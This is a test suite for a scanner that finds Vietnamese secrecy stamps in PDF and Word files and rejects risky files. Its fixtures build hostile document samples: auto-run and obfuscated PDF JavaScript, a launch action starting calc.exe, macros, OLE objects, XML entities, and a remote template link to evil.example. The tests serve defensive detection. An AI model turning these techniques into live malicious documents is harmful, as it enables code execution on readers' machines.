import { deflateSync } from 'node:zlib';
import { Document, Header, Packer, Paragraph, TextRun } from 'docx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { scanFile } from '../../../src/adapters/documents/scan-file';
import { drawn, pdfOf, pdfWith, rawPdf, VIETNAMESE_FONT } from '../../support/pdf-files';

const PDF = { name: 'cong-van.pdf', mime: 'application/pdf' };
const DOCX = {
  name: 'bai.docx',
  mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
};

const scanPdf = (bytes: Buffer) => scanFile({ ...PDF, bytes });
const scanDocx = (bytes: Buffer) => scanFile({ ...DOCX, bytes });
const stampsOf = async (scan: ReturnType<typeof scanFile>) =>
  (await scan).stamps.map(({ page, stamp }) => [page, stamp]);

const LETTER = ['UBND PHƯỜNG TRẢNG DÀI', 'Số: 12/UBND-VX', 'Kính gửi: Công an thành phố'];

describe('a letter in PDF', () => {
  it('is read, and harmless when it bears no stamp', async () => {
    const bytes = await pdfOf([[...LETTER, 'Bài về mật ong và cách đổi mật khẩu.', 'MẬT ONG']]);
    expect(await scanPdf(bytes)).toEqual({ fault: null, searchable: true, stamps: [] });
  });

  it.each(['MẬT', 'TỐI MẬT', 'TUYỆT MẬT', 'TÀI LIỆU THU HỒI', 'LƯU HÀNH NỘI BỘ'])(
    'is found to bear %s on its second page',
    async (stamp) => {
      const bytes = await pdfOf([LETTER, ['Phụ lục', stamp, 'Chốt trực số 1']]);
      expect(await stampsOf(scanPdf(bytes))).toEqual([[2, stamp]]);
    },
  );

  it('is found to bear a stamp beside its head, spaced out, turned or in decomposed letters', async () => {
    const bytes = await drawn({}, (paper) => {
      paper.font(VIETNAMESE_FONT).fontSize(13);
      paper.addPage().text('SỞ NÔNG NGHIỆP', 60, 60, { lineBreak: false });
      paper.text('MẬT', 400, 60, { lineBreak: false });
      paper.addPage().text('TỐI MẬT', 60, 60, { characterSpacing: 12, lineBreak: false });
      paper
        .addPage()
        .rotate(-30, { origin: [200, 200] })
        .text('TUYỆT MẬT', 200, 200);
      paper.addPage().text('XEM XONG TRẢ LẠI'.normalize('NFD'), 60, 60);
    });
    expect(await stampsOf(scanPdf(bytes))).toEqual([
      [1, 'MẬT'],
      [2, 'TỐI MẬT'],
      [3, 'TUYỆT MẬT'],
      [4, 'XEM XONG TRẢ LẠI'],
    ]);
  });

  it('is found to bear a stamp that was put onto it as a remark', async () => {
    const bytes = await drawn({}, (paper) => {
      paper.addPage().font(VIETNAMESE_FONT).text('Công văn');
      paper.textAnnotation(60, 60, 80, 20, 'MẬT');
    });
    expect(await stampsOf(scanPdf(bytes))).toEqual([[1, 'MẬT']]);
  });

  it('that was scanned has no text to look at', async () => {
    const bytes = await drawn({}, (paper) => {
      paper.addPage().rect(60, 60, 200, 200).fill('#333');
    });
    expect(await scanPdf(bytes)).toEqual({ fault: null, searchable: false, stamps: [] });
  });

  it('may open at a page of its own, as word processors have it', async () => {
    expect((await scanPdf(pdfWith('/OpenAction [3 0 R /XYZ null null 0]'))).fault).toBeNull();
  });
});

const packed = (objects: string, offset: number) => {
  const stream = deflateSync(Buffer.from(objects, 'latin1')).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First ${offset} /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
};

describe('a PDF is not taken', () => {
  it.each([
    ['that is broken', Buffer.from('%PDF-1.4\ntrailer\n<<>>\n%%EOF\n'), 'pdf_unreadable'],
    ['that is a page of HTML', Buffer.from('<html><script>1</script>'), 'pdf_unreadable'],
    ['that is empty', Buffer.alloc(0), 'pdf_unreadable'],
    ['without pages', rawPdf(['<< /Type /Catalog >>']), 'pdf_unreadable'],
    [
      'that runs a script when opened',
      pdfWith('/OpenAction 4 0 R', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      'pdf_with_scripts',
    ],
    [
      'that spells its script’s name by codes',
      pdfWith('/OpenAction 4 0 R', '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
      'pdf_with_scripts',
    ],
    [
      'that hides its script in packed objects',
      pdfWith('/OpenAction 9 0 R', packed('9 0 << /S /JavaScript /JS (app.alert) >>', 4)),
      'pdf_with_scripts',
    ],
    [
      'that starts a program',
      pdfWith('/OpenAction << /S /Launch /F (calc.exe) >>'),
      'pdf_with_scripts',
    ],
    ['with a form of XFA', pdfWith('/AcroForm << /XFA 4 0 R >>', '<< >>'), 'pdf_with_scripts'],
    [
      'with other files inside',
      pdfWith('/Names << /EmbeddedFiles << /Names [] >> >>'),
      'pdf_with_attachments',
    ],
    [
      'that says it is encrypted',
      rawPdf(['<< /Type /Catalog >>'], '/Encrypt 9 0 R'),
      'pdf_encrypted',
    ],
  ])('%s', async (_what, bytes, fault) => {
    expect(await scanPdf(bytes)).toEqual({ fault, searchable: false, stamps: [] });
  });

  it('that asks for a password, or would without one', async () => {
    for (const options of [{ userPassword: 'a' }, { ownerPassword: 'b' }]) {
      expect((await scanPdf(await pdfOf([LETTER], options))).fault).toBe('pdf_encrypted');
    }
  });

  it('that was cut short', async () => {
    const whole = await pdfOf([LETTER]);
    const { fault } = await scanPdf(whole.subarray(0, 400));
    expect(fault).toBe('pdf_unreadable');
  });

  it('with more pages or bytes than a letter has', async () => {
    const pages = Array.from({ length: 201 }, () => ['trang']);
    expect((await scanPdf(await pdfOf(pages))).fault).toBe('pdf_too_large');
    expect((await scanPdf(Buffer.alloc(21 * 1024 * 1024, '%PDF-'))).fault).toBe('pdf_too_large');
  });

  it('whatever its name says', async () => {
    const bytes = await pdfOf([LETTER, ['MẬT']]);
    expect(await stampsOf(scanFile({ name: 'anh.png', mime: 'image/png', bytes }))).toEqual([
      [2, 'MẬT'],
    ]);
  });
});

async function docxOf(lines: readonly string[], header?: string): Promise<Buffer> {
  const children = lines.map((line) => new Paragraph({ children: [new TextRun(line)] }));
  const headers = header ? { default: new Header({ children: [new Paragraph(header)] }) } : {};
  return Packer.toBuffer(new Document({ sections: [{ headers, children }] }));
}

function changed(bytes: Buffer, files: Readonly<Record<string, string>>): Buffer {
  const added = Object.entries(files).map(([name, text]) => [name, strToU8(text)] as const);
  return Buffer.from(zipSync({ ...unzipSync(bytes), ...Object.fromEntries(added) }));
}

describe('a Word document', () => {
  it('is read, and harmless when it bears no stamp', async () => {
    const bytes = await docxOf(['MẬT ONG rừng', 'Bảo mật', 'Q&A <mật khẩu>']);
    expect(await scanDocx(bytes)).toEqual({ fault: null, searchable: true, stamps: [] });
  });

  it('is found to bear a stamp in its text, in pieces or spelled by codes', async () => {
    const pieces = new Paragraph({ children: ['M', 'Ậ', 'T'].map((text) => new TextRun(text)) });
    const bytes = await Packer.toBuffer(new Document({ sections: [{ children: [pieces] }] }));
    expect(await stampsOf(scanDocx(bytes))).toEqual([[null, 'MẬT']]);
    const coded = changed(bytes, {
      'word/document.xml': '<w:p><w:r><w:t>T&#7888;I M&#x1EAC;T</w:t></w:r></w:p>',
    });
    expect(await stampsOf(scanDocx(coded))).toEqual([[null, 'TỐI MẬT']]);
  });

  it('is found to bear a stamp in the head of its pages, or in a frame', async () => {
    const bytes = await docxOf(['Phương án'], 'LƯU HÀNH NỘI BỘ');
    expect(await stampsOf(scanDocx(bytes))).toEqual([[null, 'LƯU HÀNH NỘI BỘ']]);
    const framed = changed(bytes, {
      'word/header1.xml': '<w:hdr/>',
      'word/document.xml':
        '<w:p><w:r><w:t>Phương </w:t><w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p>' +
        '</w:txbxContent><w:t>án</w:t></w:r></w:p>',
    });
    expect(await stampsOf(scanDocx(framed))).toEqual([[null, 'MẬT']]);
  });

  it.each([
    ['document_with_macros', { 'word/vbaProject.bin': 'x' }],
    ['document_with_objects', { 'word/embeddings/oleObject1.bin': 'x' }],
    ['document_with_entities', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }],
    [
      'document_with_template_link',
      {
        'word/_rels/settings.xml.rels':
          '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      },
    ],
  ])('is not taken: %s', async (fault, files) => {
    const bytes = changed(await docxOf(['Bài']), files);
    expect((await scanDocx(bytes)).fault).toBe(fault);
  });

  it('is not taken when it is none', async () => {
    expect((await scanDocx(Buffer.from('PK nothing'))).fault).toBe('document_unreadable');
    const other = Buffer.from(zipSync({ 'a.txt': strToU8('x') }));
    expect((await scanDocx(other)).fault).toBe('document_unreadable');
  });
});

test('a picture has no text and no fault: it is decoded elsewhere', async () => {
  const bytes = Buffer.from('89504e470d0a1a0a', 'hex');
  expect(await scanFile({ name: 'bia.png', mime: 'image/png', bytes })).toEqual({
    fault: null,
    searchable: false,
    stamps: [],
  });
});
